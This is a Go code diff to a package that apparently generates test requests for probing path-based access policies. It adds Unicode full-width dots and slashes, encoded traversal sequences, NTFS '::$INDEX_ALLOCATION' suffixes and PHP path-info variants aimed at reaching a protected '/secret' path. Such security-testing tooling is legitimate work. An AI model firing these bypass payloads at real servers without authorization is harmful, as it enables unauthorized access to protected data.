@@ -2,6 +2,7 @@ package attack
 
 import (
 	"fmt"
+	"net/url"
 	"strconv"
 	"strings"
 )
@@ -49,6 +50,9 @@ func pathLines(open, closed string) []string {
 		"https://{host}"+o+"/..;/"+c,
 		strings.TrimPrefix(open, "/")+"../"+c,
 		"*",
+		o+"/index.php/"+c, o+"/x.PHP/"+c,
+		o+"/．．/"+c, o+"/‥/"+c, o+"／．．／"+c, o+"/%EF%BC%8E%EF%BC%8E/"+c, o+"/%e2%80%a5/"+c, o+"%EF%BC%8F..%EF%BC%8F"+c, o+"/..%E2%88%95"+c, o+"/.%EF%BC%8E/"+c,
+		o+"::$INDEX_ALLOCATION/../"+c, o+"/..::$INDEX_ALLOCATION/"+c,
 	)
 }
 
@@ -157,6 +161,9 @@ func policyAttacks(t *Target) []Attack {
 		"/" + p + "/secret?x", "/" + p + "/secret#x", "/" + p + "/secret%23x", "/" + p + "/secret%3fx",
 		"http://{host}/" + p + "/secret", "http://{host}/x/../" + p + "/secret", t.Public + "../" + p + "/secret", t.Optional + "..;/" + p + "/secret",
 		"/" + p + "/%c0%ae/secret", "/x/%c0%ae%c0%ae/" + p + "/secret",
+		"/index.php/" + p + "/secret", "/x/App.PHP/" + p + "/secret", "/index.php/x.php/" + p + "/secret",
+		"/" + p + "::$INDEX_ALLOCATION/secret", "/" + p + "::$index_allocation/secret",
+		"/" + widen(p) + "/secret", "/" + url.PathEscape(widen(p)) + "/secret", "/x/%EF%BC%8E%EF%BC%8E/" + p + "/secret", "/" + p + "%EF%BC%8Fsecret", "/" + p + "%E2%88%95secret", "/" + p + "%EF%BC%BCsecret",
 	}
 	var out []Attack
 	for i, line := range lines {
@@ -175,6 +182,11 @@ func policyAttacks(t *Target) []Attack {
 
 // number is i so that names sort as their attacks do.
 func number(i int) string { return fmt.Sprintf("%02d", i) }
+
+// widen writes letters in full width.
+func widen(s string) string {
+	return strings.Map(func(r rune) rune { return r + '！' - '!' }, s)
+}
 
 func escapeFirst(s string) string { return "%" + strconv.FormatInt(int64(s[0]), 16) + s[1:] }
 
